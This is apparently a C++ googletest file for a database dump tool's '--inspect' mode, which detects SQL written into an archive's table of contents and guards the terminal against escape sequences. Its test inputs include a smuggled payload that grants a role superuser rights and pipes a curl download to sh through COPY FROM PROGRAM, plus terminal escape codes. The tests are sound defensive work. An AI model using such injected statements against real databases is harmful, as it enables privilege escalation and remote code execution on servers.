// `pgstow list --inspect`: what an archive from somebody unknown would run.

#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/support/paths.h"
#include "tests/support/process.h"
#include "tests/support/server.h"

namespace pgstow::tests {
namespace {

using testing::HasSubstr;
using testing::Not;

class InspectTest : public testing::Test {
 protected:
  // A folder, whose table of contents has neither checksums nor compression, of a database whose
  // comment leaves room for other things.
  InspectTest() {
    source_.Sql(
        "CREATE FUNCTION f(integer) RETURNS integer LANGUAGE sql IMMUTABLE AS 'SELECT 1';"
        "CREATE TABLE t (n integer);"
        "CREATE INDEX i ON t (f(n));"
        "COMMENT ON TABLE t IS '" +
        room_ + "'");
    RunOrThrow({PgstowPath(), "dump", "-Fd", "-f", archive_, source_.name()},
               {.environment = server_.environment()});
  }

  // Writes `sql` over the comment.
  void WriteIn(const std::string& sql) const {
    const std::string path = archive_ + "/toc.dat";
    std::string toc = ReadFile(path);
    const std::string comment = "'" + room_ + "';";
    const size_t place = toc.find(comment);
    ASSERT_NE(place, std::string::npos);
    ASSERT_LE(sql.size(), comment.size());
    toc.replace(place, comment.size(), sql + std::string(comment.size() - sql.size(), ' '));
    WriteFile(path, toc);
  }

  std::string Inspected(const Command& options = {}) const {
    Command command = {PgstowPath(), "list", "--inspect", archive_};
    command.insert(command.end(), options.begin(), options.end());
    return RunOrThrow(command);
  }

  const std::string room_ = std::string(200, 'x');
  const Server server_ = Server::Named("installed");
  const ScratchDatabase source_{server_};
  TempDir dir_;
  const std::string archive_ = dir_ / "a";
};

TEST_F(InspectTest, FindsNothingAmissInADump) {
  const std::string found = Inspected();
  EXPECT_THAT(found, HasSubstr("       1  CREATE TABLE\n"));
  EXPECT_THAT(found, HasSubstr("Languages of functions\n       1  sql\n"));
  EXPECT_THAT(found, HasSubstr("What no dump has there: somebody wrote it in\n  none\n"));
  EXPECT_THAT(found, HasSubstr("What only a superuser can restore\n  none\n"));
  EXPECT_THAT(found, HasSubstr("       1  public.f\n"));  // called by the index
}

TEST_F(InspectTest, FindsWhatSomebodyWroteIn) {
  WriteIn("''; ALTER ROLE mallory SUPERUSER; COPY t FROM PROGRAM 'curl example.com | sh';");
  const std::string found = Inspected();
  EXPECT_THAT(found, HasSubstr("somebody wrote it in\n       1  ALTER ROLE\n"));
  EXPECT_THAT(found, HasSubstr("; COMMENT public TABLE t\n       1  COPY\n"));
  EXPECT_THAT(found, HasSubstr("       1  a superuser\n"));
  EXPECT_THAT(found, HasSubstr("       1  a program run on the server\n"));
  EXPECT_THAT(Inspected({"--json"}),
              HasSubstr(R"("object": "COMMENT public TABLE t", "what": "ALTER ROLE"})"));
}

TEST_F(InspectTest, LooksAtWhatIsWanted) {
  WriteIn("''; ALTER ROLE mallory SUPERUSER;");
  EXPECT_THAT(Inspected({"--no-comments"}), Not(HasSubstr("ALTER ROLE")));
}

// The words of an archive go to a terminal, where they must stay words.
TEST_F(InspectTest, LetsNothingSteerTheTerminal) {
  WriteIn("''; SELECT \"\x1b[2J\x1b[8m\"();");
  const std::string found = Inspected();
  EXPECT_THAT(found, Not(HasSubstr("\x1b")));
  EXPECT_THAT(found, HasSubstr("SELECT \\x1b[2J\\x1b[8m\n"));
}

TEST_F(InspectTest, AnswersOneQuestionAtATime) {
  const Outcome outcome = RunProgram({PgstowPath(), "list", "--inspect", "--why=t", archive_});
  EXPECT_EQ(outcome.exit_code, 1);
  EXPECT_THAT(outcome.err, HasSubstr("--inspect"));
  EXPECT_THAT(outcome.err, HasSubstr("--why"));
}

}  // namespace
}  // namespace pgstow::tests
